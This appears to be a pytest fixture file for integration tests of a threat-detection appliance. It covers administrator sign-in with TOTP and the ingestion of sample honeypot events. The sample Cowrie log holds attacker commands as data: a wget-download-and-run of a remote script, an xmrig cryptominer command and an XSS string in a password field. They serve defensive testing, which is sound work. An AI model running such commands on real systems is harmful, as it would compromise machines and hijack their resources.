"""One running appliance for all stories: real processes, real rules where there are corpora, real events."""

import asyncio
import re
import time
from collections.abc import Iterator

import httpx
import pyotp
import pytest

from appliance.cli.settling import first_sign_in
from tests.factories.stack import Stack, running_stack

PASSWORD = "seven green bicycles at dawn"
# Less than the ten minutes that a proof is good for, by what a test may take.
_PROOF_SECONDS = 300

COWRIE = """{"eventid":"cowrie.session.connect","src_ip":"203.0.113.7","session":"a1b2","timestamp":"2026-05-01T12:00:00Z","sensor":"pot-1"}
{"eventid":"cowrie.login.success","username":"root","password":"<script>alert(1)</script>","src_ip":"203.0.113.7","session":"a1b2","timestamp":"2026-05-01T12:00:02Z","sensor":"pot-1"}
{"eventid":"cowrie.command.input","input":"cd /tmp; wget http://198.51.100.9/x.sh; chmod 777 x.sh; sh x.sh","src_ip":"203.0.113.7","session":"a1b2","timestamp":"2026-05-01T12:00:05Z","sensor":"pot-1"}
{"eventid":"cowrie.session.file_download","url":"http://198.51.100.9/x.sh","shasum":"0f343b0931126a20f133d67c2b018a3b5f9d4a8b1c0d8e7f6a5b4c3d2e1f0a9b","src_ip":"203.0.113.7","session":"a1b2","timestamp":"2026-05-01T12:00:06Z","sensor":"pot-1"}
{"eventid":"cowrie.command.input","input":"./xmrig -o stratum+tcp://pool.example:3333 -u x","src_ip":"203.0.113.7","session":"a1b2","timestamp":"2026-05-01T12:00:09Z","sensor":"pot-1"}
"""


class Browser:
    """A signed-in session, as the cookie a browser would hold."""

    def __init__(self, client: httpx.Client, cookie: str, secret: str) -> None:
        self._client, self.cookie, self._code = client, cookie, pyotp.TOTP(secret)
        # Coming in was a proof, and used a code up.
        self._proved_at, self._used = time.monotonic(), self._code.now()
        self._csrf = self.get("/api/v1/session").json()["csrf_token"]

    def prove(self) -> None:
        """Prove again who one is, unless that was lately: ten minutes of dangerous actions are allowed."""
        if time.monotonic() - self._proved_at < _PROOF_SECONDS:
            return
        # A code works once, and a wrong one counts against everybody at this address.
        while (code := self._code.now()) == self._used:
            time.sleep(1)
        done = self.post("/api/v1/session/step-up", {"code": code})
        assert done.status_code == 204, done.text
        self._used, self._proved_at = code, time.monotonic()

    def get(self, path: str, **parameters: object) -> httpx.Response:
        return self._client.get(path, params=parameters, headers={"Cookie": self.cookie})

    def post(self, path: str, json: object, **headers: str) -> httpx.Response:
        return self._client.post(
            path, json=json, headers={"Cookie": self.cookie, "X-CSRF-Token": self._csrf} | headers
        )

    def patch(self, path: str, json: object, **headers: str) -> httpx.Response:
        return self._client.patch(
            path, json=json, headers={"Cookie": self.cookie, "X-CSRF-Token": self._csrf} | headers
        )


@pytest.fixture(scope="session")
def appliance() -> Iterator[Stack]:
    with running_stack() as stack:
        stack.link = asyncio.run(first_sign_in(stack.settings))
        stack.start("web", "ingest", "detect", "seal")
        stack.wait_for_ingest()
        _wait_for_web(stack)
        yield stack


@pytest.fixture(scope="session")
def browser(appliance: Stack) -> Iterator[Browser]:
    """The first administrator, who came in by the one-time link."""
    with httpx.Client(base_url=appliance.web_url, timeout=30) as client:
        form = {"token": appliance.link, "password": PASSWORD, "again": PASSWORD}
        answer = client.post("/welcome", data=form)
        assert answer.status_code == 303, answer.text
        step = {"Cookie": answer.headers["set-cookie"].partition(";")[0]}
        # An administrator has a second factor: the page shows its secret, as the QR code does.
        page = client.get(answer.headers["location"], headers=step).text
        secret = re.search(r'id="secret">([A-Z2-7 ]+)<', page)[1].replace(" ", "")
        code = {"code": pyotp.TOTP(secret).now()}
        done = client.post("/sign-in/step/enrolment", data=code, headers=step)
        assert "recovery" in done.text, done.text
        yield Browser(client, re.search(r"__Host-xdr=[^;]+", done.headers["set-cookie"])[0], secret)


@pytest.fixture(scope="session")
def fed(appliance: Stack, browser: Browser) -> str:
    """The honeypot's session has been ingested; the id of the incident it became."""
    source = browser.post("/api/v1/sources", {"name": "honeypot", "format": "auto"}).json()
    token = browser.post(f"/api/v1/sources/{source['id']}/tokens", {}).json()["token"]
    answer = httpx.post(
        f"{appliance.ingest_url}/api/v1/ingest/honeypot",
        content=COWRIE + "this is no event\n",
        headers={"Authorization": f"Bearer {token}", "X-Batch-Id": "first"},
        timeout=60,
    )
    assert answer.status_code == 201, answer.text
    assert re.match(r"[0-9a-f-]{36}", answer.json()["batch_id"])
    deadline = time.monotonic() + 30
    while not (items := browser.get("/api/v1/incidents").json()["items"]):
        assert time.monotonic() < deadline, f"no incident from {answer.json()}"
        time.sleep(0.2)
    return items[0]["id"]


def _wait_for_web(stack: Stack) -> None:
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            if httpx.get(f"{stack.web_url}/health/startup", timeout=2).status_code == 200:
                return
        except httpx.TransportError:
            time.sleep(0.2)
    raise RuntimeError((stack.folder / "processes.log").read_text()[-3000:])
